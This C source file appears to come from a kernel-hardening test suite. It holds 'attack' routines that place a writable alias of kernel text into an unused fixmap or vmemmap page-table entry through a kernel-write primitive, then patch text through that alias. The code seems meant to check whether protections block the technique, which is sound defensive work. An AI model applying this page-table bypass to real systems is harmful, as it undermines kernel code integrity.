// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks that put a writable alias of kernel text into an unused entry of a
 * kernel page table.
 */
#include "attack.h"
#include "list.h"

static enum outcome map_text_at(uint64_t addr, uint64_t slot, int level)
{
	uint64_t size = entry_size(level);
	uint64_t phys = text_phys();
	uint64_t value = (phys & ~(size - 1)) | PTE_KERNEL_RW;
	enum outcome outcome;
	int err;

	if (level != LEVEL_PTE)
		value = pte_block(value);
	err = kwrite64(slot, value);
	if (err)
		return lost("the new entry was refused: %d", err);
	outcome = patch_text_through(addr + (phys & (size - 1)));
	kwrite64(slot, 0);
	return outcome;
}

/* The first empty entry of the table that covers from. */
static enum outcome map_text_in_table(uint64_t from, int level, uint64_t step)
{
	struct slot slot;
	uint64_t addr = from;
	int i;

	for (i = 0; i < (int)table_entries(); i++, addr += step) {
		if (kwalk(addr, level, 0, &slot) || slot.level != level)
			break;
		if (!slot.value)
			return map_text_at(addr, slot.slot, level);
	}
	return broken("no empty entry at level %d for 0x%lx", level, addr);
}

enum outcome fixmap_pte(void)
{
	return map_text_in_table(FIXMAP_BASE, LEVEL_PTE, PAGE_SIZE);
}

enum outcome vmemmap_table(void)
{
	uint64_t base = memory_map_base();

	return map_text_in_table(base, LEVEL_PMD, PMD_SIZE);
}
